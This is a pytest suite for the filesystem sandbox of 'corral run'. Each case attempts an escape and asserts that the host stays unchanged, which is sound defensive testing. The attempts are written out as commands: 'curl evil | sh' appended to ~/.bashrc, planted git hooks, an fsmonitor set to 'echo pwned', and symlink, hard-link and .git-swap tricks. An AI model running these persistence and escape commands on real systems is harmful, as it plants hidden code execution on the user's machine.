"""The filesystem boundary of ``corral run``: what a command may write, and what not.

Every case runs the real command line, real bubblewrap and the real kernel
layers, and checks the host afterwards, not the command's own word.
"""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

import pytest

from corral.sandbox import find_tools
from tests.conftest import Home
from tests.support import CORRAL, IS_ROOT, CorralCLI, sh

# These tests check what the kernel holds once a command is let through.
pytestmark = pytest.mark.boundary_only


def test_writes_inside_the_workspace_reach_the_host(
    corral: CorralCLI, workspace: Path
) -> None:
    ran = corral.run(
        workspace, *sh("echo made > new.txt && mkdir -p d/e && echo x > d/e/f")
    )
    assert ran.returncode == 0, ran.stderr
    assert (workspace / "new.txt").read_text() == "made\n"
    assert (workspace / "d" / "e" / "f").exists()


def test_writes_outside_the_workspace_are_refused(
    corral: CorralCLI, workspace: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    ran = corral.run(workspace, *sh(f"echo x > {outside}/f"))
    assert ran.returncode != 0
    assert not (outside / "f").exists()
    assert "outside the writable roots" in ran.stderr


def test_shell_start_up_files_cannot_be_changed(
    corral: CorralCLI, workspace: Path, home: Home
) -> None:
    ran = corral.run(workspace, *sh("echo 'curl evil | sh' >> ~/.bashrc"))
    assert ran.returncode != 0
    assert (home.path / ".bashrc").read_text() == "# shell start-up\n"


def test_git_hooks_of_the_top_repository_are_read_only(
    corral: CorralCLI, workspace: Path
) -> None:
    ran = corral.run(workspace, *sh("echo 'evil' > .git/hooks/pre-commit"))
    assert ran.returncode != 0
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert "protected path .git" in ran.stderr


def test_git_hooks_of_a_nested_repository_are_read_only(
    corral: CorralCLI, workspace: Path
) -> None:
    hook = workspace / "vendor" / "lib" / ".git" / "hooks" / "post-checkout"
    ran = corral.run(workspace, *sh(f"echo evil > {hook}"))
    assert ran.returncode != 0
    assert not hook.exists()


def test_git_config_writes_are_refused(corral: CorralCLI, workspace: Path) -> None:
    before = (workspace / ".git" / "config").read_text()
    ran = corral.run(workspace, "git", "config", "core.hooksPath", "/x")
    assert ran.returncode != 0
    assert (workspace / ".git" / "config").read_text() == before


def test_the_git_directory_cannot_be_renamed_or_deleted(
    corral: CorralCLI, workspace: Path
) -> None:
    ran = corral.run(workspace, *sh("mv .git g; rm -rf .git; rmdir .git; true"))
    assert ran.returncode == 0
    assert (workspace / ".git" / "HEAD").exists()
    assert not (workspace / "g").exists()


def test_symlink_routes_to_protected_files_are_read_only(
    corral: CorralCLI, workspace: Path
) -> None:
    ran = corral.run(
        workspace,
        *sh(
            "ln -s .git/hooks h && echo evil > h/pre-push; "
            "ln -s .git/config c && echo evil >> c; true"
        ),
    )
    assert ran.returncode == 0
    assert not (workspace / ".git" / "hooks" / "pre-push").exists()
    assert "evil" not in (workspace / ".git" / "config").read_text()


def test_proc_self_root_reaches_protected_files_read_only(
    corral: CorralCLI, workspace: Path
) -> None:
    ran = corral.run(
        workspace, *sh(f"echo evil > /proc/self/root{workspace}/.git/hooks/x")
    )
    assert ran.returncode != 0
    assert not (workspace / ".git" / "hooks" / "x").exists()


def test_hard_links_to_protected_files_cannot_be_made(
    corral: CorralCLI, workspace: Path
) -> None:
    ran = corral.run(workspace, *sh("ln .git/config cfg && echo evil >> cfg"))
    assert ran.returncode != 0
    assert "evil" not in (workspace / ".git" / "config").read_text()


def test_an_existing_hard_link_to_a_protected_file_refuses_the_run(
    corral: CorralCLI, workspace: Path
) -> None:
    os.link(workspace / ".git" / "config", workspace / "cfg")
    ran = corral.run(workspace, "true")
    assert ran.returncode == 125
    assert "hard links" in ran.stderr


def test_a_symlinked_protected_path_refuses_the_run(
    corral: CorralCLI, workspace: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "vscode-settings"
    elsewhere.mkdir()
    (workspace / ".vscode").symlink_to(elsewhere)
    ran = corral.run(workspace, "true")
    assert ran.returncode == 125
    assert "symbolic link" in ran.stderr


def test_absent_protected_paths_cannot_be_created_and_leave_nothing_behind(
    corral: CorralCLI, workspace: Path
) -> None:
    ran = corral.run(
        workspace,
        *sh(
            "mkdir .vscode; echo '{}' > .mcp.json; echo 'eval evil' > .envrc; "
            "mkdir -p .claude/commands; ls -a"
        ),
    )
    assert ran.returncode == 0, ran.stderr
    for name in (".vscode", ".mcp.json", ".envrc", ".claude", ".agents", ".codex"):
        assert not (workspace / name).exists(), name


def test_a_worktree_git_directory_is_read_only(
    corral: CorralCLI, workspace: Path, tmp_path: Path
) -> None:
    tree = workspace / "wt"
    subprocess.run(
        ["git", "worktree", "add", "-q", str(tree), "-b", "side"],
        cwd=workspace,
        check=True,
        capture_output=True,
    )
    gitdir = workspace / ".git" / "worktrees" / "wt"
    ran = corral.run(
        tree, *sh(f"echo evil > {gitdir}/HEAD; echo evil > {gitdir}/config")
    )
    assert ran.returncode != 0
    assert "evil" not in (gitdir / "HEAD").read_text()
    assert (
        not (gitdir / "config").exists()
        or "evil" not in (gitdir / "config").read_text()
    )


def test_private_tmp_is_empty_and_leaves_nothing_on_the_host(
    corral: CorralCLI, workspace: Path
) -> None:
    marker = f"corral-test-{os.getpid()}"
    ran = corral.run(workspace, *sh(f"ls -A /tmp; touch /tmp/{marker}"))
    assert ran.returncode == 0, ran.stderr
    # Only the way to corral's own installation, when it lies beneath /tmp.
    tmp = Path("/tmp")
    corral_own = {
        path.relative_to(tmp).parts[0]
        for path in find_tools().visible_paths()
        if path.is_relative_to(tmp)
    }
    assert set(ran.stdout.split()) == corral_own
    assert not Path("/tmp", marker).exists()


def test_read_only_mode_refuses_workspace_writes(
    corral: CorralCLI, workspace: Path
) -> None:
    ran = corral(
        "run",
        "-C",
        str(workspace),
        "--sandbox",
        "read-only",
        "--",
        "sh",
        "-c",
        "echo x > f",
    )
    assert ran.returncode != 0
    assert not (workspace / "f").exists()


def test_a_repository_created_during_the_run_is_reported(
    corral: CorralCLI, workspace: Path
) -> None:
    ran = corral.run(
        workspace,
        *sh("git init -q sub/new && echo evil > sub/new/.git/hooks/post-checkout"),
    )
    assert ran.returncode == 0, ran.stderr
    assert f"created the git directory {workspace}/sub/new/.git" in ran.stderr
    later = corral.run(workspace, *sh("echo evil2 > sub/new/.git/hooks/pre-commit"))
    assert later.returncode != 0
    assert not (workspace / "sub" / "new" / ".git" / "hooks" / "pre-commit").exists()


def test_the_parent_of_a_nested_repository_cannot_be_moved_to_swap_its_git_dir(
    corral: CorralCLI, workspace: Path
) -> None:
    """Moving vendor/ away and putting a fresh vendor/lib/.git in its place fails."""
    ran = corral.run(
        workspace,
        *sh(
            "mv vendor vendor_old; mv vendor/lib vendor/lib_old; "
            "mkdir -p vendor2/lib && cp -a vendor/lib/.git vendor2/lib/.git && "
            "git -C vendor2/lib config core.fsmonitor 'echo pwned' && "
            "rm -rf vendor; mv vendor2 vendor; true"
        ),
    )
    assert ran.returncode == 0, ran.stderr
    config = (workspace / "vendor" / "lib" / ".git" / "config").read_text()
    assert "pwned" not in config
    assert not (workspace / "vendor_old").exists()


def test_a_replaced_git_directory_is_reported_by_identity_not_by_name(
    corral: CorralCLI, workspace: Path
) -> None:
    """A .git that reappears at a known path is still a new, unprotected one."""
    (workspace / "sub").mkdir()
    ran = corral.run(
        workspace,
        *sh("git init -q sub/a && mv sub/a sub/b && git init -q sub/a"),
    )
    assert ran.returncode == 0, ran.stderr
    assert f"{workspace}/sub/a/.git" in ran.stderr
    assert f"{workspace}/sub/b/.git" in ran.stderr


def test_a_directory_corral_cannot_list_stops_the_run_or_is_still_protected(
    corral: CorralCLI, workspace: Path
) -> None:
    """corral must see every nested git directory; one it cannot see fails closed."""
    hidden = workspace / "hid"
    (hidden / "x").mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(hidden / "x")], check=True)
    hidden.chmod(0o311)
    try:
        ran = corral.run(workspace, *sh("echo pwned >> hid/x/.git/config"))
    finally:
        hidden.chmod(0o755)
    assert "pwned" not in (hidden / "x" / ".git" / "config").read_text()
    if not IS_ROOT:
        assert ran.returncode == 125
        assert f"cannot list {hidden}" in ran.stderr


def test_a_run_with_another_state_directory_does_not_remove_placeholders_in_use(
    corral: CorralCLI, workspace: Path, tmp_path: Path
) -> None:
    """Placeholders are held per workspace, whoever's state directory runs.

    The first run creates the placeholders and ends while a second run, with
    another state directory, still relies on them.
    """

    def start(state: str, script: str) -> subprocess.Popen[bytes]:
        return subprocess.Popen(
            [
                *CORRAL,
                "run",
                "-C",
                str(workspace),
                "--",
                "sh",
                "-c",
                script,
            ],
            env={**corral.env, "XDG_STATE_HOME": str(tmp_path / state)},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )

    first = start("state-a", "sleep 1")
    time.sleep(0.5)
    second = start("state-b", "sleep 2.5; mkdir .vscode; echo x > .envrc; true")
    assert first.wait(timeout=60) == 0
    assert second.wait(timeout=60) == 0
    vscode = workspace / ".vscode"
    assert not vscode.exists() or not any(vscode.iterdir())
    envrc = workspace / ".envrc"
    assert not envrc.exists() or envrc.read_text() == ""


def _worktree_through(workspace: Path, gitdir: str) -> Path:
    """Give ``wt/`` a .git file naming `gitdir`, as a worktree or submodule has."""
    tree = workspace / "wt"
    tree.mkdir()
    (tree / ".git").write_text(f"gitdir: {gitdir}\n")
    return tree


def test_a_git_directory_named_through_a_workspace_link_refuses_the_run(
    corral: CorralCLI, workspace: Path
) -> None:
    """Repointing the link would hand the host's git a planted git directory."""
    subprocess.run(
        ["git", "init", "-q", "--bare", str(workspace / "store" / "real.git")],
        check=True,
    )
    (workspace / "link").symlink_to("store")
    _worktree_through(workspace, "../link/real.git")
    ran = corral.run(
        workspace,
        *sh(
            "mkdir evil && cp -a store/real.git evil/ && "
            "printf '#!/bin/sh\\ntouch pwned\\n' > evil/real.git/hooks/pre-commit && "
            "chmod +x evil/real.git/hooks/pre-commit && ln -sfn evil link"
        ),
    )
    assert ran.returncode == 125
    assert f"{workspace}/wt/.git" in ran.stderr
    assert f"{workspace}/link" in ran.stderr
    assert not (workspace / "evil").exists()
    assert (workspace / "link").readlink() == Path("store")


def test_a_git_directory_that_does_not_exist_yet_refuses_the_run(
    corral: CorralCLI, workspace: Path
) -> None:
    """The command could create it, hooks included, for the host's git to use."""
    _worktree_through(workspace, f"{workspace}/store/real.git")
    ran = corral.run(workspace, "git", "init", "-q", "--bare", "store/real.git")
    assert ran.returncode == 125
    assert "does not exist" in ran.stderr
    assert not (workspace / "store").exists()


def test_a_bare_repository_created_during_the_run_is_reported_and_then_protected(
    corral: CorralCLI, workspace: Path
) -> None:
    ran = corral.run(
        workspace,
        *sh(
            "git init -q --bare x.git && mkdir -p y/objects y/refs && "
            "echo 'ref: refs/heads/main' > y/HEAD"
        ),
    )
    assert ran.returncode == 0, ran.stderr
    assert f"created the git directory {workspace}/x.git" in ran.stderr
    assert f"created the git directory {workspace}/y;" in ran.stderr
    later = corral.run(
        workspace,
        *sh("echo evil > x.git/hooks/pre-commit; git -C y config core.fsmonitor x"),
    )
    assert later.returncode != 0
    assert not (workspace / "x.git" / "hooks" / "pre-commit").exists()
    assert not (workspace / "y" / "config").exists()


def test_a_protected_path_whose_parent_is_missing_stays_uncreatable(
    corral: CorralCLI, workspace: Path
) -> None:
    """The first missing directory is held, so the protected path cannot appear."""
    (workspace / ".corral").mkdir()
    (workspace / ".corral" / "policy.toml").write_text(
        "[sandbox]\nprotected_paths = ['deploy/secrets/']\n"
    )
    ran = corral.run(
        workspace,
        *sh("mkdir -p deploy/secrets && echo x > deploy/secrets/key; true"),
    )
    assert ran.returncode == 0, ran.stderr
    assert not (workspace / "deploy" / "secrets").exists()


def test_a_placeholder_corral_cannot_create_is_reported_with_its_directory(
    corral: CorralCLI, workspace: Path
) -> None:
    """The error names the directory corral could not write, not the workspace."""
    (workspace / ".corral").mkdir()
    (workspace / ".corral" / "policy.toml").write_text(
        "[sandbox]\nprotected_paths = ['locked/key']\n"
    )
    locked = workspace / "locked"
    locked.mkdir(mode=0o555)
    try:
        ran = corral.run(workspace, "true")
    finally:
        locked.chmod(0o755)
    if IS_ROOT:  # root writes there regardless of the mode
        assert ran.returncode == 0, ran.stderr
    else:
        assert ran.returncode == 125
        assert f"corral creates it in {locked}: make that directory" in ran.stderr


def test_read_only_says_nothing_is_writable_rather_than_pointing_at_the_workspace(
    corral: CorralCLI, workspace: Path
) -> None:
    ran = corral(
        "run", "--sandbox", "read-only", "-C", str(workspace), "--", "touch", "x"
    )
    assert ran.returncode != 0
    assert "read-only" in ran.stderr
    assert "write inside the workspace" not in ran.stderr
    assert not (workspace / "x").exists()
